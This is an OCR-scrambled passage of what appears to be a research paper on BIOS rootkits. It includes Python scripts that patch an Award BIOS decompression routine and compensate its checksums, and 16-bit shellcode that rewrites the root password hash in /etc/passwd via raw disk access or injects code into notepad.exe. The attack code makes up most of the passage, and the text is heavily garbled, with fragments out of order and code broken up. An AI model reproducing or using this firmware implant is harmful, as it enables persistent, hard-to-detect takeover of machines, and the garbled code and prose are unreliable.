findbut we have to take into consideration the execution #Add the hook hookoffset=0x23 decorom = decorom[:hookoffset]+minihook+decorom[len(minihook)+hookoffset:] #Add the shellcode decorom+="\x90"*100+decomphook decorom=decorom+'\x90'*10 . etc.So. we've chosen to hook the decompression routine. To have our code running there should imply doing all the hardware initialization by ourselves (DRAM. PCI. The first thing to deal with now is 'where to patch'.1) #!/usr/bin/python import print "Leido hook: %d bytes" % len(decomphook) minihook = '\x9a\x40\x04\x3b\x66\x90' # call near +0x430 #Load the decompression rom decorom = open('DECOMPC0.'rb'). Northbridge. if we want to do things like accessing the hard drive we need to be sure that when our code gets executed it already has access to the hard drive.orig'. (as seen at 3.

...ROM'.. Then...MOD') ---[3..ORIG') os..| | ." os..'wb') out. |..--->| | | | | | | | | DECOMPRESSION BLOCK | | | | | | | | | | | |___| | | | |<----' | | First Stage Payload | | | (Moves second stage | | | to a safe place | | | and updates the hook) | | | | | |.. will be used as a buffer to hold the decompressed code.#recalculate the ROM size decorom=decorom[:0xf]+struct. A simple relative call that redirects the execution flow to our code and moves the second stage to a safe hardcoded place that we know remains unused during thewhole boot process..EXE .SCR./PREPARE..write(decorom) out.. we have to resolve *where* are we going to store our payload..system('.| `--<-+ Code smashed by hook | |___| | | | Second Stage Payload | | | | | |___| Lets see the code: .../CATENATE.....Payload Before talking about the payload.1.pack("<H"........ because it makes us split the shellcode in two stages....../ROM.. We found that there is a lot of padding space at the end of the decompression routine that. The first one gets executed by setting a very typical hook in the prolog of the decompression routine. when allocated.len(decorom)-0x1A)+decorom[0x11:] #Save the patched decompression rom out=open('DECOMPC0... This adds a bit of complexity to the payload.........ORIG') print"Catenate......system('rm *..EXE ..5 ... and this is not a trivial task. updates the hook making it point to the new address and executes the instructions smashed by the original call ___ | | | HOOK +->---...close() #Compile print "Prepare.SCR... Trashing in this way.......system('..." os.. any code that we can store there...../ROM.

1 . ---[3. di xor si. get_eip to have the 'source' address call b b: pop si add si. new_hook segment .The Ready Signal . 0xff . aprox 32 MB) %define EXTENT 10 start_mover: . seg_dst mov di. 4 mov word [eax]. the second stage payload |---| The second stage. word [esp+0x12] . 0x25 (Offset needed to reach the second stage payload) rep movsw mov ax.Extent to search (in 64K sectors.5. execute code smashed by 'call far' . ax .1. now residing in anunused space. restore saved regs popf popa . |---| BITS 16 .mov es.. has got to have some ready signal to know if the services that we want to use are retf .bx mov ds. get the caller address to patch the original hook sub ax. code_size .ax mov bx. new_hook offset mov word [eax+2].save regs . set dst params to move the shellcode xor ax.Here goes a large nopsled and next. 0x8000 . 0x0000 . si push cs pop ds mov mov fs. 0x8000 .jmp start_mover pusha pushf . ax xor di. off_dst mov cx.

disable the antivirus or anti rootkits. Ok.0x1e0 . we can modify it in any way we want!. DAP 0x1e0 from code mov cx. In a real malicious implementation.In the VMWare we've seen that when our second-stage payload is called.5. add and delete any desired file of the disk allowing an attacker to drop driver modules.bx add si. if not it returns without doing anything. construct DAP push cs pop ds mov si. simple. setting the password "root" for the root user. we will use the Int 13h to sequentially read the disk in raw mode. infect files. In this moment the operating system is just a char array sitting on the disk. Then. just as Proof of Concept.The Real stuff Now we have our code executed and we know that we have all the services we need so what are we going to do? We can't interact with the OS from here. we tried to keep it . This is very simple because it's always mapped at 0000:0000. will be possible to modify..1 . etc. we have all we need to do our stuff. Every time the shellcode gets executed first checks if the IVT is initialized with valid pointers.bx . We will look for a pattern in a very stupid way and it will work. let's do it. in a common scenery. The shellcode doesn't have any type of optimization. you would like to code some sort of basic driver to correctly parse the different filesystem structures. wereplace the root hash with our own hash. But hey! wait. 'for educational purposes' .1. ---[3. use LBA disk access to change root password to 'root' BITS 16 push es push ds pushad pushf . This is the shellcode that we've used to walk over the whole disk matching the pattern: "root:$" in order to find the root entry of the /etc/passwd file. but doing what we said before. 16 bit shellcode . Get code address call gca gca: pop bx . we have access to the disk through the int 13h (Low Level Disk Services). --- . at least for FAT & NTFS (maybe reusing GRUB or LILO code?) but for this paper. Based on that we chose to use the IVT initialization as ourready signal. if it is the shellcode is executed. and the IVT is already initialized.

0 .ds.3 mov si.---.0x200 .0x200 .0x80 .number of sectors inc si mov byte [si].1 .0x42 .---. sector number add si. 512 bytes per sector searchloop: cmp word [di]. sector number add si.0 .---.0 . sector number add si.0x1e8 loopinc: mov ax.2 mov word [si].size of SAP inc si mov byte [si]. add cx. Buffer pointer 0x200 from code mov byte [si].Search for 'root' mov di.2 loop loopinc incend: .2 mov word [si]. call number mov dl.buffer offset add si.unused inc si mov word [si].0 .cx .bx add si. pointer to buffer mov cx.0 jneincend add si.2 mov word [si].16 .'ro' jne notfound cmp word [di+2].0 mov si.2 mov word [si].'ot' jne notfound .reserved inc si mov byte [si].0x1e0 int 0x13 jc mainend nop nop nop .buffer segment add si.0 mainloop: push di push si . sector number mov cmp ax.2 mov word [si].bx add di.0x200 .Inc sector number mov cx.LBA extended read sector mov ah. drive number 0x80=first hd mov si.word [si] inc ax mov word [si].0 .bx add si.0 .

'S8' mov word[di+48].'Yu' mov word[di+52].root:$2a$08$Grx5rDVeDJ9AXXlXOobffOkLOnFyRjk2N0/4S8Yup33sD43wSHFzi: .':$' jne notfound jmp found .'SH' mov word[di+62].replace password with: .'p3' mov word[di+54].'D4' mov word[di+58].'Gr' mov word[di+14].3 jne mainloop mainend: popf popad pop ds pop es int 3 found: .'XX' mov word[di+24].'k2' mov word[di+42].'3w' mov word[di+60].'On' mov word[di+36].---.'kL' mov word[di+34].'8$' mov word[di+12].'3s' mov word[di+56].'$0' movword[di+10].Yes we could've used rep movsb.'N0' mov word[di+44].'rD' mov word[di+16]. but we kinda suck.'i:' .'2a' mov word[di+8].'fO' mov word[di+32].'lX' mov word[di+26].0 jne mainloop inc si cmp si.'9A' mov word[di+22].'Fy' mov word[di+38]. root found! notfound: inc di loop searchloop endSearch: pop si pop di inc di cmp di.'Fz' mov word[di+64]. cmp word [di+4]. mov word[di+6].'Oo' mov word[di+28].0 .'Rj' mov word[di+40].'bf' mov word[di+30].0x43 . call number mov al.LBA extended write sector mov ah.'DJ' mov word[di+20].'Ve' mov word[di+18]. no verify .'/4' mov word[di+46].

bx add si. loop to debug popf popa .0x1e0 int 0x13 jmp mainend This other is basically the same payload. ax mov noint .0x46 jenoint . ax retf ifint: .mov bx. check to see if int 19 is initialized cmp byte [0x19*4]. mov dl.0x80 .mov ds.di mov hook_start .mov fs. but in this case we walk over the whole disk trying to match a pattern inside notepad. loop to debug cmp byte [0x19*4]. es mov ifint .retf pusha pushf xor di. drive number 0x80=first hd mov si. and then we inject a piece of code with a simple call to MessaBoxA and ExitProcess to finish it gracefully.0x00 jne ifint noint: . bx mov ds. hook_start: nop nop nop nop nop nop nop nop nop nop nop nop nop nop nop .ax .di .es .bx .exe.

2 mov word [si].cx . mov dl...0 .. DAP 0x2e0 from code mov cx..buffer offset add si.---.---...0x0003int 0x10 .construct DAP push cs pop ds mov si.reserved inc si mov byte [si].number of sectors inc si mov byte [si]. sector number add si.size ofSAP inc si mov byte [si]...0x300 .....0 ..Function 00h: Reset Disk System mov ah.. DEBUG cli push es push ds pushad pushf .0 ..ds.Function 41h: Check Extensions push bx mov ah.0x2e0 .0x55aa.Set screen mode mov ax. sector number mov di. Get code address call gca gca: pop bx .....unused inc si mov word [si].bx add cx...2 mov word [si].buffer segment add si.0x80 . 0x00 int 0x13 jc mainend_near ..16 ....0 ....1 .bx add si.0 ...2 mov word [si]... call number mov bx.... drive number 0x80=first hd int 0x13 pop bx jc mainend_near ... Buffer pointer 0x300 from code mov byte [si].0x41 .....0 .. sector number add si....---... sector number add initShellcode ...0 ..0 mov si. initShellcode: ..2 mov word [si]...2 mov word [si].---.......

bx = curr_pos add int_test . jmp mainloop mainend_near: jmp mainend mainloop: cmp di.debugme: .0x0e45 mov bx. . drive number 0x80=first hd mov si.0 int 0x10 pop bx nochar: push di push si .LBA extended read sector mov ah.0x0e add al.progress bar (ABCDE.---.2 loop loopinc incend: LBA_read: ..0 jne nochar .0x2e0 int 0x13 jnc int13_no_err .---.0x0000 int 0x10 pop bx int13_no_err: .bx add di.0x9868 jne notfound incend .si mov ah.0x80 .bx add si.Search for 'root' mov di.Inc sector number mov cx.0x2e8 .Write error character push bx mov ax.0x42 . call number mov cmp ax.0 jne incend add si.word [si] inc ax mov word [si].bx . 512 bytes per sectorsearchloop: cmp word [di].. +2e8 LBA Buffer loopinc: mov ax.---.0x200 .3 mov si.0x41 mov bx.) push bx mov ax. pointer to buffer mov cx.0x300 ..0x706a jne notfound cmp word [di+2].

es mov fs.0xe801 jne notfound jmp found . 0xc700 mov word[di+6]. 0x00be mov word[di+2].. root found! notfound: inc di loop searchloop endSearch: pop si pop di inc di cmp di. 0x0100 mov word[di+4]. je debugme cmp word [di+4]. Infinite loop .0x0000 int 0x10 pop bx ret found: mov al.EXTENT . 0x5006 mov word[di+8]. 0xc744 .0x0e mov bx. 0x4e57 mov word[di+10].0x46 call writechar .0 jne mainloop inc si cmp word[di]. 0xfeeb .0x0018 jne notfound cmp word [di+6]. ax retf writechar: push bx mov ah. bx mov ds.Debug mov word[di].---.10x65535 sectors to read jne mainloop jmp mainend exit_error: pop si pop di mainend: popf popad pop ds pop es sti popf popa mov bx.

00 PG BIOS. 0x016a mov word[di+20]. continue searching nop ---[3. We found that it almost always works. as it's not always automatically detected.rom file. But to complete this research. How can we make a generic rootkit if we can't even find a way to reliably read a flash chip? Of course. 0x2121 mov word[di+16].bx add si. 0x0000 mov word[di+36]. 0xa2be mov word[di+40]. It contains an extensive database of chips and read/write methods. 0x81ca mov word[di+42]. 0x050b mov word[di+28]. For this modification we used a common motherboard (Asus A7V8X-MX). a very popular version.2 . and that makes reading them in a generic way a non-trivial problem.---. ISA bridge.LBA extended write sector mov ah. 0xff7c mov word[di+44]. The bios should be in the mybios.1 .Dumping the real BIOS firmware FLASH chips are fairly compatible. 0x77d8 mov word[di+30]. see [COREBOOT] (Also available in the Debian repositories). But they are connected to the motherboard in many different ways (PCI.2. 0x006a mov word[di+22]. a hardware flash reader is asolution.0x80 .rom Generally. you should do a script to try every known chip. even if you have to manually specify the IC model. 0xd6ff mov word[di+32]. but at the time we didn't have one and is not really an option if you want to remotely infect a BIOS without physical access. the command above is all that you need. So we started looking for software-based alternatives.0 . $ flashrom -r mybios. 0x0446 mov word[di+14]. A trick that we learned is that if it says that it can't detect the Chip. 0x90d6 . 0x5600 mov word[di+38].0x43 . with an Award-Phoenix 6. mov word[di+12]. 0x0100 mov word[di+18]. even interchangeable.0x2e0 int 0x13 jmp notfound. drive number 0x80=first hd mov si. which was the Flashrom utility from the coreboot open-source project. etc. 0xbe00 mov word[di+26]. 0x6a56 mov word[di+24]. call number mov al. we have to attack a real system. The first tool that we found worked fine. 0x00be mov word[di+34]. ---[3.).Real (Award) BIOS modification VMWare turned to be an excellent BIOS research and development platform. We have yet to . no verify mov dl.

it says "CHECKSUM" so. 3) Once the generic hook is working.1 . ---[3. We also used flashrom as a generic way to upload the modified BIOS back to the motherboard. and by touching only one byte at the end of the shellcode. and reflash. When modifying a real bios.Our plan to achieve execution was: 1) We must insertarbitrary modifications (this implies the knowledge of checksum positions and algorithms) 2) A basic hook should be inserted on a generic. it must be some kind of addition compared to a number. And this kind of checks can be easily bypassed.Black Screen of Death You have to know that you're going to trash a lot of BIOS chips in this process. Writing is slightly more difficult. There are many free tools to manipulate BIOS. then you hot-swap it with the damaged one. inside this python script: .RTFM (Read the friendly manual of the motherboard) If this doesn't work.2. injecting a number at some point that will *compensate* the addition. for this technique you will need to have another working backup BIOS. we faced some big problems: 1) Lack of documentation of the bios structure 2) Lack of packing/unpacking tools 3) No easy way to debug real hardware. all the checksums were compensated.Changing one bit at time Our initial attempts were unsuccessful and produced mostly unbootable systems.Modification Once we have the BIOS image on our hard disk. You can find the very simple algorithm to do this on the attachments.2 . We can cite the Linux awardeco and phnxdeco utilities as a starting point. but as it always happen with proprietary formats. The black screen of death got us thinking. and you must patch everyone of them or face the terrifying "BIOS CHECKSUM ERROR" black screen of death. This limitation can by bypassed modifying the source code but beware that you can fry your motherboard this way. ---[3. we couldn't find one that worked with our particular firmware. then a Shellcode could be inserted.2. easy to find portion of the BIOS.0 .2. ---[3. Of course.find BIOS that can't be read using this technique. and in particular an award/phoenix BIOS.2. Isn't this the reason why CRC was invented after all? It turns out that all the checksums were only 8-bits. Basically we ignored how many checksums the bios had. but they tend to fail on modern BIOS versions. you can use the chip hot-swapping technique: You boot with a working chip.2. as Flashrom needs to correctly identify the IC to allowwriting to it. But most BIOSes have a security mechanism to restore a damaged firmware. we can start the process of inserting the malicious payload.

sccom) ) shellcode = open(sccom.argv[1] origname = sys.modifname) ) #merge shellcode with original flash insertposition = 0x3af75 modif = open(modifname.unlink(modifname) newbios=modif[:insertposition] newbios+=shellcode newbios+=modif[insertposition+len(shellcode):] modif=newbios #insert hook hookposition = 0x3a41d hook="\xe9\x55\x0b" # here is our hook.argv[1].system("nasm %s -o %s " % ( #!/usr/bin/python import os.system("cp %s %s" % (origname.modif" % sys.unlink(sccom) print ("Shellcode lenght: %d" % len(shellcode)) # Make a copy of the original BIOS modifname = "%s.'rb').argv[2] sccom = "%s.'rb'). # at the end of the bootblock newbios=modif[:hookposition] newbios+=hook newbios+=modif[hookposition+len(hook):] modif=newbios #read original flash orig = open(sys.sys. this script is not *that* generic # you will have to harvest these values # shellcode = shellcode[0xb55:] # skip the NOPs os. # These offsets are for the Asus A7V8X-MX # Revision 1007-001 start_of_decomp_blk=0x3a400 start_of_compensation=0x3affc end_of_decomp_blk=0x3b000 .--- modifBios.argv[0]) exit(0) # assembly the file scasm = sys.math # Usage if len(sys.argv[1] os.bin" % scasm # calculate original and modified checksum # Sorry.'rb').read() os. but you can craft an automatic # one using pattern search.argv)<3: print "Modify and recalculate Award BIOS checksum" print "Usage: %s <original bios> <assembly shellcode file>" % (sys.

compensated" w=open(newbiosname.1 . There are a couple ofsteps that you must do to ensure that you are hooking correctly.start_of_compensation): ochksum+=ord(orig[i]) mchksum+=ord(modif[i]) print "Checksums: Original= %08X Modified= %08X" % (ochksum. The first step was accomplished.mchksum) # calculate difference chkdiff = (mchksum & 0xff) .'wb') w. modify it to cause an infinite loop. Hint: look for "= Award Decompression Bios =" In Phoenix bios. then multiple bytes on a uncompressed region of the BIOS.3 .write(newbios) w. ochksum=0 # original checksum mchksum=0 # modified checksum for i in range(start_of_decomp_blk. It's easy to find.2.argv[2]+".2. is the block marked as "DECOMPCODE" (using phnxdeco or any other tool).Payload . (we don't have a debugger so we must rely on these horrible techniques) If you can control when the computers boots correctly and when it just locks up.end_of_decomp_blk): 